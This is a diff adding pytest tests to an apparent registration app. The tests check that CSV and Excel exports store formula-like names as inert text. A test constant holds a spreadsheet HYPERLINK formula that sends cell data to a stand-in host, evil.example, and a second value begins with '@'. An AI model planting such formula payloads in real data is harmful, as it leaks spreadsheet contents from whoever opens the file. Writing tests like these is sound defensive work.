@@ -186,3 +186,26 @@ class TestVisaLetter:
         with pytest.raises(services.RegistrationError):
             personal_data.sign_visa_letter(pending, officer)
         assert Registration.objects.get(pk=pending.pk).visa_letter_signed_at is None
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_csv_export_writes_a_formula_in_a_name_as_text(officer_client, session):
+    register(session, given_name=FORMULA, function_title="@SUM(A1:A9)")
+
+    response = officer_client.get(
+        "/sessions/ieg-2-2025/console/export.csv?column=given_name&column=function_title"
+    )
+
+    row = list(csv.reader(io.StringIO(response.content.decode())))[1]
+    assert row == ["'" + FORMULA, "'@SUM(A1:A9)"]
+
+
+def test_excel_export_writes_a_formula_in_a_name_as_text(officer_client, session):
+    register(session, given_name=FORMULA)
+
+    response = officer_client.get("/sessions/ieg-2-2025/console/export.xlsx?column=given_name")
+
+    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
+    assert (cell.data_type, cell.value) == ("s", FORMULA)
